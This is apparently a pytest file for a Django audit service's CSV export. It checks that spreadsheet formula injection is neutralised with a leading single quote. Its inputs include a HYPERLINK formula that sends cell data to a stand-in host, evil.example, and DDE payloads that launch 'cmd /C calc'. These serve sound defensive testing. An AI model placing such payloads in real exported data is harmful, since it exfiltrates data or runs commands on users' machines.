"""CSV export: text that a spreadsheet would run as a formula is neutralised (OWASP: a single
quote in front); numbers, including negative ones, stay numbers."""
import csv
import io

import pytest

from audit.api.export import neutralise_cell
from audit.models import Audit

from ..api.conftest import token_client
from ..api.helpers import finished_audit, two_variant_result
from ..factories import make_version

pytestmark = pytest.mark.django_db


def test_formula_cells_from_user_text_are_quoted(team, member):
    version = make_version(team, name='=HYPERLINK("http://evil.example/?"&A1,"click")', label="+cmd|' /C calc'!A0",
                           user=member)
    audit = finished_audit(team, user=member, result=two_variant_result(), model_version=version)
    Audit.objects.filter(pk=audit.pk).update(fingerprint={"cpu_model": "@SUM(1+1)*cmd|' /C calc'!A0"})
    response = token_client(member).get("/api/v1/audits/export.csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows
    for row in rows:
        assert row["model"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
        assert row["model_version"] == "'+cmd|' /C calc'!A0"
        assert row["hardware"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
        assert row["variant"] in {"baseline", "int8-dynamic"}  # ordinary text untouched
        assert float(row["energy_j_per_inference"]) > 0


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1+2", "@A1", "\tA1", "\r=1"])
def test_every_formula_prefix_is_neutralised(text):
    assert neutralise_cell(text) == "'" + text


def test_numbers_and_plain_text_are_left_alone():
    assert neutralise_cell(-0.5) == -0.5 and neutralise_cell(-3) == -3 and neutralise_cell(None) is None
    assert neutralise_cell("digits-mlp") == "digits-mlp" and neutralise_cell("") == ""
